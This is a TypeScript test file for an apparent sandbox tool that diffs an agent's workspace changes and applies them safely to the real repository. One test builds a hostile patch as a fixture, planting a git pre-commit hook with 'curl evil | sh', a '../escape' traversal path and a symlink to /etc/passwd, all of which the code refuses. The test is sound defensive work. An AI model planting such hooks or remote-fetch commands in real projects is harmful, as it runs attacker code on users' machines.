import { execFileSync } from "node:child_process";
import { mkdtemp, readFile, rm, symlink, writeFile, mkdir } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";

import { afterEach, beforeEach, describe, expect, it } from "vitest";

import { ChangesConflictError, applyChanges } from "./apply-changes.js";
import { patchOf } from "../../test/support/inspect-copy.js";
import { recordBaseline } from "../sandbox/workspace/index.js";
import { parsePatch } from "./parse-git-patch.js";
import { patchProblems } from "./patch-problems.js";

const gitEnv = {
  ...process.env,
  GIT_CONFIG_GLOBAL: "/dev/null",
  GIT_AUTHOR_NAME: "t",
  GIT_AUTHOR_EMAIL: "t@t",
  GIT_COMMITTER_NAME: "t",
  GIT_COMMITTER_EMAIL: "t@t",
};

function git(cwd: string, ...args: string[]): string {
  return execFileSync("git", args, { cwd, env: gitEnv, encoding: "utf8" });
}

/** The agent's changes, taken as `cordon diff` takes them: by an inspector container. */
const changesOf = (copy: string): Promise<Buffer> => patchOf(copy);

describe("changes: baseline, inspect, apply", () => {
  let root: string;
  let real: string;
  let copy: string;

  beforeEach(async () => {
    root = await mkdtemp(path.join(tmpdir(), "cordon-changes-"));
    real = path.join(root, "real");
    copy = path.join(root, "copy");
    await mkdir(real);
    git(real, "init", "-q");
    await writeFile(path.join(real, "code.py"), "x = 1\n");
    await writeFile(path.join(real, ".gitignore"), "build/\n");
    git(real, "add", "-A");
    git(real, "commit", "-qm", "init");
    // An untracked file the user had: part of the seed, so not part of the agent's changes.
    await writeFile(path.join(real, "notes.txt"), "mine\n");
    execFileSync("cp", ["-a", `${real}/.`, copy]);
  });
  afterEach(async () => {
    await rm(root, { recursive: true, force: true });
  });

  it("records a baseline without touching HEAD or the index, and diffs only the agent's changes", async () => {
    const head = git(copy, "rev-parse", "HEAD");
    await recordBaseline(copy);
    expect(git(copy, "rev-parse", "HEAD")).toBe(head);
    expect(git(copy, "status", "--porcelain")).toBe("?? notes.txt\n");

    await writeFile(path.join(copy, "code.py"), "x = 2\n");
    await writeFile(path.join(copy, "new.bin"), Buffer.from([0, 1, 2, 255]));
    await mkdir(path.join(copy, "build"));
    await writeFile(path.join(copy, "build", "out.o"), "ignored");
    const patch = await changesOf(copy);

    const files = parsePatch(patch.toString("utf8"));
    expect(files.map((f) => [f.path, f.change, f.binary])).toEqual([
      ["code.py", "modified", false],
      ["new.bin", "added", true],
    ]);
    expect(patchProblems(files)).toEqual([]);

    const outcome = await applyChanges(real, patch);
    expect(outcome.applied).toBe(true);
    expect(await readFile(path.join(real, "code.py"), "utf8")).toBe("x = 2\n");
    expect([...(await readFile(path.join(real, "new.bin")))]).toEqual([0, 1, 2, 255]);
    expect(await readFile(path.join(real, "notes.txt"), "utf8")).toBe("mine\n");
  });

  it("gives a non-git tree a repository and a baseline", async () => {
    const plain = path.join(root, "plain");
    await mkdir(plain);
    await writeFile(path.join(plain, "a.txt"), "a\n");
    await recordBaseline(plain);
    await writeFile(path.join(plain, "a.txt"), "b\n");
    const files = parsePatch((await changesOf(plain)).toString("utf8"));
    expect(files.map((f) => f.path)).toEqual(["a.txt"]);
  });

  it("--check writes nothing; a conflicting workspace is refused naming the file, all or nothing", async () => {
    await recordBaseline(copy);
    await writeFile(path.join(copy, "code.py"), "x = 2\n");
    await writeFile(path.join(copy, "other.txt"), "new\n");
    const patch = await changesOf(copy);

    expect((await applyChanges(real, patch, { check: true })).applied).toBe(false);
    expect(await readFile(path.join(real, "code.py"), "utf8")).toBe("x = 1\n");

    await writeFile(path.join(real, "code.py"), "x = 100\n");
    const failure = await applyChanges(real, patch).catch((error: unknown) => error);
    expect(failure).toBeInstanceOf(ChangesConflictError);
    expect((failure as ChangesConflictError).files).toEqual(["code.py"]);
    // Atomic: the other file of the patch was not created either.
    await expect(readFile(path.join(real, "other.txt"))).rejects.toThrow();
  });

  it("refuses a symlink that points out of the workspace, and paths into .git or outside", async () => {
    await recordBaseline(copy);
    await symlink("/etc/passwd", path.join(copy, "passwd"));
    await symlink("../../outside", path.join(copy, "up"));
    await symlink("code.py", path.join(copy, "inside"));
    const files = parsePatch((await changesOf(copy)).toString("utf8"));
    const problems = patchProblems(files);
    expect(problems.map((p) => p.path).sort()).toEqual(["passwd", "up"]);
    await expect(applyChanges(real, await changesOf(copy))).rejects.toThrow(/not safe to apply/);

    const hostile = [
      "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit",
      "new file mode 100755",
      "--- /dev/null",
      "+++ b/.git/hooks/pre-commit",
      "@@ -0,0 +1 @@",
      "+curl evil | sh",
      "diff --git a/../escape b/../escape",
      "new file mode 100644",
      "--- /dev/null",
      "+++ b/../escape",
      "@@ -0,0 +1 @@",
      "+x",
      "",
    ].join("\n");
    expect(patchProblems(parsePatch(hostile)).map((p) => p.problem)).toEqual([
      "the path is inside .git",
      "the path leaves the workspace",
    ]);
  });

  it("reads renames, deletions, mode changes and quoted unicode names", () => {
    const patch = [
      "diff --git a/old name.txt b/new name.txt",
      "similarity index 100%",
      "rename from old name.txt",
      "rename to new name.txt",
      "diff --git a/gone.txt b/gone.txt",
      "deleted file mode 100644",
      "--- a/gone.txt",
      "+++ /dev/null",
      "@@ -1 +0,0 @@",
      "-bye",
      "diff --git a/run.sh b/run.sh",
      "old mode 100644",
      "new mode 100755",
      'diff --git "a/\\303\\244.txt" "b/\\303\\244.txt"',
      "index 78981922613b2afb6025042ff6bd878ac1994e85..61780798228d17af2d34fce4cfbdf35556832472 100644",
      '--- "a/\\303\\244.txt"',
      '+++ "b/\\303\\244.txt"',
      "@@ -1 +1 @@",
      "-a",
      "+b",
      "",
    ].join("\n");
    expect(parsePatch(patch).map((f) => [f.path, f.change, f.from])).toEqual([
      ["new name.txt", "renamed", "old name.txt"],
      ["gone.txt", "deleted", undefined],
      ["run.sh", "mode", undefined],
      ["ä.txt", "modified", undefined],
    ]);
  });
});
